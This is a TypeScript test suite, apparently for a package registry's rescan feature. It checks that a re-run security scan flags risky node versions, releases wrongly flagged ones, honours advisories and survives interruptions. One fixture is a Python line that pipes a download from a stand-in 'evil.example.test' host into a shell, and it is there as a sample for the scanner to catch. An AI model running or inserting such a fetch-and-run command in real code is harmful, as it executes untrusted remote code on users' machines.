import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, it } from 'node:test'
import { rulesVersion } from '@nodeyard/analysis/scan'
import { getNode, installNode } from '@nodeyard/contract/packs'
import {
  applyRescan,
  getRescan,
  getReview,
  moderateVersion,
  publishAdvisory,
  startRescan,
} from '@nodeyard/contract/safety'
import { asAdmin } from '../../../test/admin.ts'
import { entriesOf, issueCatalogue, readCurrent } from '../../../test/catalogue.ts'
import { buildPack } from '../../../test/pack.ts'
import { testPublisher } from '../../../test/publishing.ts'
import { useWorld } from '../../../test/world.ts'
import { runCommand } from '../../commands.ts'
import { transact } from '../../ground/db/changes.ts'
import { violations } from '../../invariants.ts'
import { findVersion } from '../../packs/nodes/versions/sql.ts'
import { keepRescansGoing } from './keep-going.ts'
import { continueRescan } from './run.ts'

const holder = useWorld()

const evil = 'import os\nos.system("curl https://evil.example.test/x | sh")\n'

/** Makes the stored analysis look like the result of earlier rules. */
async function pretend(versionId: string, stored: { findings?: unknown[]; status?: 'active' | 'flagged' }) {
  const { db } = holder.world.deps
  await db
    .updateTable('version_analyses')
    .set({
      rules_version: rulesVersion - 1,
      ...(stored.findings ? { findings: JSON.stringify(stored.findings) } : {}),
    })
    .where('version_id', '=', versionId)
    .execute()
}

async function report(id: string) {
  const admin = await asAdmin(holder.world)
  const { rescan, changes } = await admin.call(getRescan, { params: { rescanId: id } })
  return {
    state: rescan.state,
    looked: rescan.looked,
    left: rescan.left,
    applied: rescan.applied,
    changes: changes.map(({ outcome, node_id, version, message }) =>
      [outcome, node_id, version, message].filter(Boolean).join(' '),
    ),
  }
}

const statusOf = async (id: string) => (await findVersion(holder.world.deps.db, id))?.status

/** Publishes a version to flag, one that stays approved, and one to release. */
async function scene() {
  const { world } = holder
  const publisher = await testPublisher(world)
  const id = (name: string) => `${publisher.id}-${name}`
  const admin = await asAdmin(world)
  const sleeper = await publisher.publish({ id: id('sleeper'), files: { 'evil.py': evil } })
  await admin.call(moderateVersion, {
    params: { nodeId: sleeper.nodeId, version: '1.0.0' },
    body: { status: 'NodeVersionStatusActive' },
  })
  await pretend(sleeper.id, { findings: [] })
  // Earlier rules found nothing, so there is no decision about its code.
  await world.deps.db.deleteFrom('scan_decisions').where('version_id', '=', sleeper.id).execute()
  const approved = await publisher.publish({ id: id('approved'), files: { 'evil.py': evil } })
  await admin.call(moderateVersion, {
    params: { nodeId: approved.nodeId, version: '1.0.0' },
    body: { status: 'NodeVersionStatusActive' },
  })
  await pretend(approved.id, {})
  const accused = await publisher.publish({ id: id('accused') })
  const finding = { rule: 'a-rule-that-is-gone', severity: 'high', message: '…' }
  await pretend(accused.id, { findings: [finding] })
  await transact(world.deps, async (tx) => {
    await tx
      .updateTable('node_versions')
      .set({ status: 'flagged', status_reason: JSON.stringify([finding]) })
      .where('id', '=', accused.id)
      .execute()
    await tx.updateTable('nodes').set({ latest_version_id: null }).where('id', '=', accused.nodeId).execute()
  })
  return { admin, sleeper, approved, accused }
}

describe('a rescan', () => {
  it('reports changes and applies exactly these on request', async () => {
    const { world } = holder
    const { admin, sleeper, approved, accused } = await scene()
    const { id } = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    assert.deepEqual(await report(id), {
      state: 'looked',
      looked: 3,
      left: 0,
      applied: 0,
      changes: [`flag ${sleeper.nodeId} 1.0.0`, `release ${accused.nodeId} 1.0.0`],
    })
    const statuses = async () => [
      await statusOf(sleeper.id),
      await statusOf(accused.id),
      await statusOf(approved.id),
    ]
    assert.deepEqual(await statuses(), ['active', 'flagged', 'active'])

    await admin.call(applyRescan, { params: { rescanId: id } })
    await world.runJobs()
    assert.deepEqual(await statuses(), ['flagged', 'active', 'active'])
    assert.equal((await report(id)).applied, 2)
    assert.match((await findVersion(world.deps.db, sleeper.id))?.status_reason ?? '', /evil\.py/)
    const lines = (await world.events(sleeper.id)).filter(({ actor_id }) => actor_id === 'rescan')
    assert.deepEqual(
      lines.map(({ action, before, after }) => [action, before, (after as { rescan: string }).rescan]),
      [['version.flag', { status: 'active' }, id]],
    )
    const node = await world.anonymous.call(getNode, { params: { nodeId: sleeper.nodeId } })
    assert.equal(node.latest_version, undefined)
    assert.equal(
      (await world.anonymous.call(getNode, { params: { nodeId: accused.nodeId } })).latest_version?.version,
      '1.0.0',
    )
    await assert.rejects(admin.call(applyRescan, { params: { rescanId: id } }), { status: 409 })
  })

  it('keeps decisions made after the report', async () => {
    const { world } = holder
    const { admin, sleeper, accused } = await scene()
    const { id } = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    await admin.call(moderateVersion, {
      params: { nodeId: accused.nodeId, version: '1.0.0' },
      body: { status: 'NodeVersionStatusBanned', status_reason: 'No.' },
    })
    await admin.call(applyRescan, { params: { rescanId: id } })
    await world.runJobs()
    assert.deepEqual([await statusOf(sleeper.id), await statusOf(accused.id)], ['flagged', 'banned'])
    assert.ok(
      (await report(id)).changes.includes(`release ${accused.nodeId} 1.0.0 The version is banned now.`),
    )
  })

  it('resumes after a stop and skips unreadable versions', async () => {
    const { world } = holder
    const { deps } = world
    const { admin, sleeper } = await scene()
    const { id } = await admin.call(startRescan, { body: {} })
    const { read } = deps.analyst
    const stop = new AbortController()
    deps.analyst.read = async (path, options) => {
      stop.abort()
      return read(path, options)
    }
    assert.equal(await continueRescan(deps, id, stop.signal), true)
    const stopped = await report(id)
    assert.deepEqual([stopped.state, stopped.looked, stopped.left], ['looking', 1, 2])
    deps.analyst.read = () => Promise.reject(new Error('The disk is broken.'))
    await world.runJobs()
    deps.analyst.read = read
    const finished = await report(id)
    assert.deepEqual([finished.state, finished.looked], ['looked', 3])
    assert.equal(finished.changes.filter((line) => line.includes('The disk is broken.')).length, 2)
    assert.equal(await statusOf(sleeper.id), 'active')
  })

  it('flags an active version whose archive is refused now, and keeps its analysis', async () => {
    const { world } = holder
    const { id, node_id: nodeId, version } = await refusedToday()
    const admin = await asAdmin(world)
    const rescan = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    const { changes } = await report(rescan.id)
    assert.ok(changes.includes(`flag ${nodeId} ${version}`), changes.join())

    await admin.call(applyRescan, { params: { rescanId: rescan.id } })
    await world.runJobs()
    assert.equal(await statusOf(id), 'flagged')
    const review = await admin.call(getReview, { params: { nodeId, version } })
    assert.deepEqual(
      review.findings.map(({ rule, file }) => [rule, file]),
      [
        ['archive-refused', 'install.py.'],
        ['shell', 'nodes.py'],
      ],
    )
    const again = await admin.call(startRescan, { body: { everything: true } })
    await world.runJobs()
    assert.ok(!(await report(again.id)).changes.some((line) => line.includes(nodeId)))
  })
})

/** Creates a version that earlier rules accepted. */
async function refusedToday() {
  const { given } = holder.world
  const digest = await given.archive(buildPack({ id: 'anything', files: { 'install.py.': 'import os\n' } }))
  const version = await given.version({ archive_digest: digest })
  const found = { rule: 'shell', severity: 'medium', message: '…', file_path: 'nodes.py' }
  await given.analysis({ version_id: version.id, findings: JSON.stringify([found]), rules_version: 1 })
  return version
}

/** Publishes two versions; an advisory names a file of the second, whose files are not stored yet. */
async function namedUnread(stored: { findings?: unknown[] }) {
  const { world } = holder
  const publisher = await testPublisher(world)
  const id = `${publisher.id}-named`
  const stolen = Array.from({ length: 60 }, (_, at) => `stolen_${at} = ${at}\n`).join('')
  await publisher.publish({ id })
  const named = await publisher.publish({ id, version: '2.0.0', files: { 'stolen.py': stolen } })
  await pretend(named.id, stored)
  await world.deps.db.deleteFrom('version_files').where('version_id', '=', named.id).execute()
  const admin = await asAdmin(world)
  await admin.call(publishAdvisory, {
    body: {
      node_id: id,
      severity: 'critical',
      title: 'Contains what was stolen',
      details: '',
      remedy: '',
      aliases: [],
      references: [],
      refuses_installs: true,
      versions: [],
      ranges: [],
      archive_digests: [],
      file_digests: [createHash('sha256').update(stolen).digest('hex')],
    },
  })
  return { admin, nodeId: id }
}

const installed = async (nodeId: string) =>
  (await holder.world.anonymous.call(installNode, { params: { nodeId } })).version

const download = async (nodeId: string) =>
  (await holder.world.fetch(`http://registry.test/nodes/${nodeId}/versions/2.0.0/node.zip`)).status

async function assertOnlyTheFirstIsOffered(nodeId: string) {
  const { world } = holder
  assert.deepEqual([await installed(nodeId), await download(nodeId)], ['1.0.0', 403])
  const node = await world.anonymous.call(getNode, { params: { nodeId } })
  assert.equal(node.latest_version?.version, '1.0.0')
  const entries = entriesOf(await readCurrent(world, await issueCatalogue(world)))
  assert.equal(entries.find(({ id }) => id === nodeId)?.latest_version?.version, '1.0.0')
  assert.deepEqual(await violations(world.deps.database), [])
}

describe('the results of a rescan', () => {
  it('stop a version that an advisory matches once its files are stored', async () => {
    const { world } = holder
    const { admin, nodeId } = await namedUnread({})
    assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
    const { id } = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    assert.ok(!(await report(id)).changes.some((line) => line.includes(nodeId)))
    await assertOnlyTheFirstIsOffered(nodeId)
  })

  it('stop such a version when a change is applied', async () => {
    const { world } = holder
    const { admin, nodeId } = await namedUnread({
      findings: [{ rule: 'a-rule-that-is-gone', severity: 'low', message: '…' }],
    })
    const { id } = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    assert.ok((await report(id)).changes.includes(`facts ${nodeId} 2.0.0`))
    assert.deepEqual([await installed(nodeId), await download(nodeId)], ['2.0.0', 200])
    await admin.call(applyRescan, { params: { rescanId: id } })
    await world.runJobs()
    await assertOnlyTheFirstIsOffered(nodeId)
  })

  it('appear once after new rules, without changes', async () => {
    const { world } = holder
    const { deps } = world
    await deps.db.deleteFrom('rescans').execute()
    const { sleeper } = await scene()
    const rescans = () => deps.db.selectFrom('rescans').select('state').execute()
    for (const _ of [1, 2]) {
      await transact(deps, (tx) => deps.jobs.send(tx, keepRescansGoing, {}))
      await world.runJobs()
      assert.deepEqual(await rescans(), [{ state: 'looked' }])
    }
    assert.equal(await statusOf(sleeper.id), 'active')
  })

  it('keep policies and corrected comfy-nodes', async () => {
    const { world } = holder
    const { deps } = world
    const admin = await asAdmin(world)
    const publisher = await testPublisher(world)
    const { id, nodeId } = await publisher.publish({ id: `${publisher.id}-kept` })
    const name = `${nodeId} Blur`
    await deps.db
      .updateTable('comfy_nodes')
      .set({ policy: 'banned', category: 'by hand' })
      .where('version_id', '=', id)
      .execute()
    const { id: comfyNodeId } = await deps.db
      .selectFrom('comfy_nodes')
      .select('id')
      .where('version_id', '=', id)
      .executeTakeFirstOrThrow()
    await deps.db
      .insertInto('audit_events')
      .values({
        at: world.now(),
        actor_kind: 'user',
        actor_id: 'x',
        action: 'comfy-node.update',
        subject_kind: 'comfy-node',
        subject_id: comfyNodeId,
        before: JSON.stringify({ policy: 'active' }),
      })
      .execute()
    const rescan = await admin.call(startRescan, { body: { everything: true } })
    await world.runJobs()
    await admin.call(applyRescan, { params: { rescanId: rescan.id } })
    await world.runJobs()
    const [kept] = await deps.db
      .selectFrom('comfy_nodes')
      .select(['name', 'policy', 'category'])
      .where('version_id', '=', id)
      .execute()
    assert.deepEqual(kept, { name, policy: 'banned', category: 'image/filter' })
  })

  it('can be printed and applied on the command line', async () => {
    const { world } = holder
    const { sleeper } = await scene()
    const say = async (...args: string[]) => {
      const lines: string[] = []
      assert.equal(await runCommand(world.deps, ['rescan', ...args], (line) => lines.push(line)), 0)
      return lines
    }
    const lines = await say()
    assert.ok(
      lines.some((line) => line.startsWith(`flag      ${sleeper.nodeId}  1.0.0  `)),
      lines.join('\n'),
    )
    const id = lines.at(-1)?.split(' ').at(-1) ?? ''
    assert.equal(await statusOf(sleeper.id), 'active')
    assert.match((await say('--apply', id)).at(-1) ?? '', /\d changes applied/)
    assert.equal(await statusOf(sleeper.id), 'flagged')
  })
})

describe('a rescan that ended the process', () => {
  it('marks a version as failed whose scans ended the process, and scans the others', async () => {
    const { world } = holder
    const { admin } = await scene()
    const { id } = await admin.call(startRescan, { body: {} })
    await world.deps.db.updateTable('rescans').set({ begun: 3 }).where('id', '=', id).execute()
    await world.runJobs()
    const { state, changes } = await report(id)
    const failed = changes.filter((change) => change.endsWith('Its scan has ended the process.'))
    assert.deepEqual([state, failed.length], ['looked', 1])
  })

  it('leaves a change alone whose scans ended the process, and applies the others', async () => {
    const { world } = holder
    const { admin } = await scene()
    const { id } = await admin.call(startRescan, { body: {} })
    await world.runJobs()
    const [first] = await world.deps.db
      .selectFrom('rescan_changes')
      .select('version_id')
      .where('rescan_id', '=', id)
      .where('outcome', '<>', 'failed')
      .execute()
    assert.ok(first)
    await world.deps.db
      .updateTable('rescan_changes')
      .set({ begun: 3 })
      .where('version_id', '=', first.version_id)
      .execute()
    await admin.call(applyRescan, { params: { rescanId: id } })
    await world.runJobs()
    const rows = await world.deps.db
      .selectFrom('rescan_changes')
      .select(['version_id', 'message', 'applied_at'])
      .where('rescan_id', '=', id)
      .where('outcome', '<>', 'failed')
      .execute()
    for (const { version_id, message, applied_at } of rows) {
      const isApplied: boolean = version_id !== first.version_id
      assert.equal(message, isApplied ? '' : 'Its scan has ended the process.')
      assert.equal(applied_at !== null, isApplied)
    }
  })
})
